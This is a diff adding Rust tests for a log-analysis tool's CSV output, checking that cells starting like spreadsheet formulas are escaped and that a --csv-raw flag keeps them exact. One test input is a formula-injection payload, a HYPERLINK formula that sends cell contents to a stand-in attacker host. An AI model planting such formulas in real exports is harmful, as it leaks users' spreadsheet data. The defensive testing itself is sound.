@@ -1,7 +1,8 @@
 //! Issue 10: output that stays safe and bounded on hostile input. Names and keys quoted on stderr
-//! are escaped like table cells.
+//! are escaped like table cells, and CSV guards text against formula injection (`--csv-raw`
+//! keeps it exact).
 
-use serde_json::json;
+use serde_json::{Value, json};
 
 use crate::util::*;
 
@@ -113,4 +114,112 @@ fn invisible_and_reordering_characters_are_escaped_in_the_table() {
         "{}",
         r.stdout
     );
+}
+
+// --------------------------------------------------------------------------------------- CSV
+
+fn errors_csv(messages: &[&str], extra: &[&str]) -> String {
+    let dir = tempfile::tempdir().unwrap();
+    let evs: Vec<Value> = messages
+        .iter()
+        .enumerate()
+        .map(|(i, m)| error_event("2024-09-05T10:00:00Z", &format!("Call{i}"), "-1", m))
+        .collect();
+    write(dir.path(), "a.json", &records(&evs));
+    let d = dir.path().to_str().unwrap();
+    let r = run(&[&["errors", "--top", "0", "-s", d, "-o", "csv"][..], extra].concat());
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    r.stdout
+}
+
+#[test]
+fn csv_guards_text_that_starts_like_a_formula() {
+    let hyperlink = r#"=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")"#;
+    let csv = errors_csv(&[hyperlink], &[]);
+    // The error code "-1" is text: guarded too. The count is a number: never.
+    assert_eq!(
+        csv,
+        "event_name,error_code,error_message,count\n\
+         Call0,'-1,\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,\"\"Click for details\"\")\",1\n"
+    );
+    for (message, cell) in [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "\"'\rcmd\""),
+        ("a=1", "a=1"),
+        ("1-2", "1-2"),
+    ] {
+        assert_eq!(
+            errors_csv(&[message], &[]),
+            format!("event_name,error_code,error_message,count\nCall0,'-1,{cell},1\n"),
+            "{message:?}"
+        );
+    }
+}
+
+#[test]
+fn csv_raw_keeps_the_exact_text() {
+    let csv = errors_csv(&["=1+1", "@x", "plain"], &["--csv-raw"]);
+    assert_eq!(
+        csv,
+        "event_name,error_code,error_message,count\nCall0,-1,=1+1,1\nCall1,-1,@x,1\nCall2,-1,plain,1\n"
+    );
+}
+
+#[test]
+fn csv_counts_times_and_json_numbers_are_never_guarded() {
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        "a.json",
+        &records(&[event(
+            "2024-09-05T10:00:00Z",
+            "-Name",
+            json!({"requestParameters": {"n": -1, "s": "-1"}}),
+        )]),
+    );
+    let d = dir.path().to_str().unwrap();
+    let r = run(&[
+        "events",
+        "-s",
+        d,
+        "-o",
+        "csv",
+        "--fields",
+        "eventTime,eventName,requestParameters.n,requestParameters.s,readOnly",
+    ]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_eq!(
+        r.stdout.lines().nth(1),
+        Some("2024-09-05T10:00:00Z,'-Name,-1,'-1,true"),
+        "{}",
+        r.stdout
+    );
+    // summary: keys from the logs are guarded; counts and times are not.
+    let r = run(&["summary", "-s", d, "-o", "csv"]);
+    assert!(
+        r.stdout.contains("\ntop_event_names,'-Name,1\n"),
+        "{}",
+        r.stdout
+    );
+    assert!(
+        r.stdout.contains("\nfirst_event,2024-09-05T10:00:00Z,\n"),
+        "{}",
+        r.stdout
+    );
+    let r = run(&["summary", "-s", d, "-o", "csv", "--csv-raw"]);
+    assert!(
+        r.stdout.contains("\ntop_event_names,-Name,1\n"),
+        "{}",
+        r.stdout
+    );
+}
+
+#[test]
+fn csv_raw_is_in_the_help() {
+    let r = run(&["--help"]);
+    assert!(r.stdout.contains("--csv-raw"), "{}", r.stdout);
 }
